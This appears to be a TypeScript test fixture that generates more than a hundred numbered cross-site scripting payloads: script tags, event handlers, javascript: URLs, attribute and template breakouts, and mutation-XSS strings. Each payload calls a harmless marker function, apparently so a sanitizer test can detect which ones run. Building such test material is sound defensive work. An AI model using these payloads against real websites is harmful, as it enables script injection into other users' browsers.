// Texts that try to run a script wherever they are taken for markup. Each calls __x with its own number, so a listener
// knows which one ran. Those in SWALLOWING hide the rest of a document, so each of them comes last in one.
type Write = (call: string) => string

const ELEMENTS: Write[] = [
  (x) => `<script>${x}</script>`,
  (x) => `<SCRIPT>${x}</SCRIPT>`,
  (x) => `<script >${x}</script >`,
  (x) => `<script/x>${x}</script>`,
  (x) => `<script src="data:text/javascript,${x}"></script>`,
  (x) => `<script type=module>${x}</script>`,
  (x) => `<scr<script>ipt>${x}</script>`,
  (x) => `<<script>${x}//<</script>`,
  (x) => `</script><script>${x}</script>`,
  (x) => `<svg><script>${x}</script></svg>`,
  (x) => `<svg><script href="data:text/javascript,${x}"/></svg>`,
  (x) => `<math><mtext><script>${x}</script></mtext></math>`,
  (x) => `<svg><foreignObject><script>${x}</script></foreignObject></svg>`,
  (x) => `<iframe srcdoc="<script>parent.${x}</script>"></iframe>`,
  (x) => `<iframe src="javascript:parent.${x}"></iframe>`,
  (x) => `<iframe src="data:text/html,<script>${x}</script>"></iframe>`,
  (x) => `<object data="javascript:${x}"></object>`,
  (x) => `<object data="data:text/html,<script>${x}</script>"></object>`,
  (x) => `<embed src="javascript:${x}">`,
  (x) => `<frameset onload=${x}>`,
]

const HANDLERS: Write[] = [
  (x) => `<img src=x onerror=${x}>`,
  (x) => `<img src=x onerror="${x}">`,
  (x) => `<img src='x' onerror='${x}'>`,
  (x) => `<IMG SRC=x OnErRoR=${x}>`,
  (x) => `<img/src=x/onerror=${x}>`,
  (x) => `<img src=x\tonerror=${x}>`,
  (x) => `<img src onerror=${x}>`,
  (x) => `<img """><img src=x onerror=${x}>">`,
  (x) => `"><img src=x onerror=${x}>`,
  (x) => `'><img src=x onerror=${x}>`,
  (x) => `\`><img src=x onerror=${x}>`,
  (x) => `--><img src=x onerror=${x}>`,
  (x) => `]]><img src=x onerror=${x}>`,
  (x) => `</title><img src=x onerror=${x}>`,
  (x) => `</textarea><img src=x onerror=${x}>`,
  (x) => `</style><img src=x onerror=${x}>`,
  (x) => `</template><img src=x onerror=${x}>`,
  (x) => `</noscript><img src=x onerror=${x}>`,
  (x) => `</a><img src=x onerror=${x}>`,
  (x) => `<image src=x onerror=${x}>`,
  (x) => `<svg onload=${x}>`,
  (x) => `<svg/onload=${x}>`,
  (x) => `<svg onload="${x}"></svg>`,
  (x) => `<svg><image href=x onerror=${x} />`,
  (x) => `<svg><g onload=${x}></g></svg>`,
  (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`,
  (x) => `<svg><set onbegin=${x} attributeName=x to=1>`,
  (x) => `<body onload=${x}>`,
  (x) => `<body onpageshow=${x}>`,
  (x) => `<video src=x onerror=${x}></video>`,
  (x) => `<video><source src=x onerror=${x}></video>`,
  (x) => `<audio src=x onerror=${x}></audio>`,
  (x) => `<input autofocus onfocus=${x}>`,
  (x) => `<select autofocus onfocus=${x}></select>`,
  (x) => `<button autofocus onfocus=${x}>x</button>`,
  (x) => `<a href=x autofocus tabindex=1 onfocus=${x}>x</a>`,
  (x) => `<details open ontoggle=${x}>x</details>`,
  (x) => `<div onmouseover=${x}>x</div>`,
  (x) => `<p onclick=${x}>x</p>`,
  (x) => `<marquee onstart=${x}>x</marquee>`,
  (x) => `<object data=x onerror=${x}></object>`,
  (x) => `<link rel=stylesheet href=x onerror=${x}>`,
  (x) => `<style onload=${x}></style>`,
  (x) => `<form><button formaction=javascript:${x}>x</button></form>`,
  (x) => `<x onclick=${x} tabindex=1>x</x>`,
  (x) => `<x contenteditable onfocus=${x}>x</x>`,
  (x) => `<div style="animation:x" onanimationstart=${x}>x</div>`,
  (x) => `<div style="width:1px" ontransitionend=${x}>x</div>`,
  (x) => `<img src=x onerror=&#40;${x}&#41;>`,
  (x) => `<img src=x onerror=window['ev'+'al']('${x}')>`,
]

const ADDRESSES: Write[] = [
  (x) => `javascript:${x}`,
  (x) => `JaVaScRiPt:${x}`,
  (x) => ` javascript:${x}`,
  (x) => `java\tscript:${x}`,
  (x) => `javascript&colon;${x}`,
  (x) => `javascript://x/%0a${x}`,
  (x) => `data:text/html,<script>${x}</script>`,
  (x) => `vbscript:${x}`,
  (x) => `<a href="javascript:${x}">x</a>`,
  (x) => `<a href=javascript:${x}>x</a>`,
  (x) => `<a href="java&#115;cript:${x}">x</a>`,
  (x) => `<a href="&#106;avascript:${x}">x</a>`,
  (x) => `<a href="jav&#x09;ascript:${x}">x</a>`,
  (x) => `<a href=" &#14; javascript:${x}">x</a>`,
  (x) => `<a xlink:href="javascript:${x}">x</a>`,
  (x) => `<svg><a href="javascript:${x}"><text y=9>x</text></a></svg>`,
  (x) => `<area href="javascript:${x}">`,
  (x) => `<form action="javascript:${x}"><button>x</button></form>`,
  (x) => `<base href="javascript:${x}//">`,
  (x) => `<meta http-equiv=refresh content="0;url=javascript:${x}">`,
  (x) => `[x](javascript:${x})`,
  (x) => `![x](x" onerror="${x})`,
]

const BREAKOUTS: Write[] = [
  (x) => `" onmouseover="${x}`,
  (x) => `' onmouseover='${x}`,
  (x) => `" autofocus onfocus=${x} x="`,
  (x) => `x" onerror=${x} "`,
  (x) => `';${x};//`,
  (x) => `";${x};//`,
  (x) => `\\";${x};//`,
  (x) => `\${${x}}`,
  (x) => `{{constructor.constructor('${x}')()}}`,
  (x) => `{{{${x}}}}`,
  (x) => `</script><svg onload=${x}>`,
  (x) => `\u2028${x}//`,
  (x) => `&lt;script&gt;${x}&lt;/script&gt;`,
  (x) => `%3Cscript%3E${x}%3C/script%3E`,
  (x) => `\\u003cscript\\u003e${x}\\u003c/script\\u003e`,
  (x) => `\uff1cscript\uff1e${x}\uff1c/script\uff1e`,
  (x) => `<div style="background:url(javascript:${x})">x</div>`,
  (x) => `<div style="width:expression(${x})">x</div>`,
  (x) => `<style>*{background:url("javascript:${x}")}</style>`,
]

const SWALLOWING: Write[] = [
  (x) => `<!--><img src=x onerror=${x}>-->`,
  (x) => `<!-- --!><img src=x onerror=${x}>`,
  (x) => `<textarea><img title="</textarea><img src=x onerror=${x}>">`,
  (x) => `<title><img title="</title><img src=x onerror=${x}>">`,
  (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`,
  (x) => `<template><p title="</template><img src=x onerror=${x}>">`,
  (x) => `<math><mglyph><style><img src=x onerror=${x}>`,
  (x) => `<svg><style><img src=x onerror=${x}>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${x}>`,
]

const numbered = (writes: readonly Write[], first: number) =>
  writes.map((write, index) => write(`__x(${first + index})`))

const HARMLESS_TO_OTHERS = [...ELEMENTS, ...HANDLERS, ...ADDRESSES, ...BREAKOUTS]

/** More than a hundred; the test says so. */
export const PAYLOADS: readonly string[] = [
  ...numbered(HARMLESS_TO_OTHERS, 0),
  ...numbered(SWALLOWING, HARMLESS_TO_OTHERS.length),
]

/** Documents with so many of them each; one that takes the rest with it stands at the end. */
export function documentsOf(payloads: readonly string[], perDocument: number): string[] {
  const last = payloads.slice(HARMLESS_TO_OTHERS.length)
  const others = payloads.slice(0, HARMLESS_TO_OTHERS.length)
  const count = Math.max(Math.ceil(others.length / perDocument), last.length)
  return Array.from({ length: count }, (_, index) => {
    const own = others.slice(index * perDocument, (index + 1) * perDocument)
    return [...own, ...last.slice(index, index + 1)].map((text) => `<div>${text}</div>`).join('\n')
  })
}
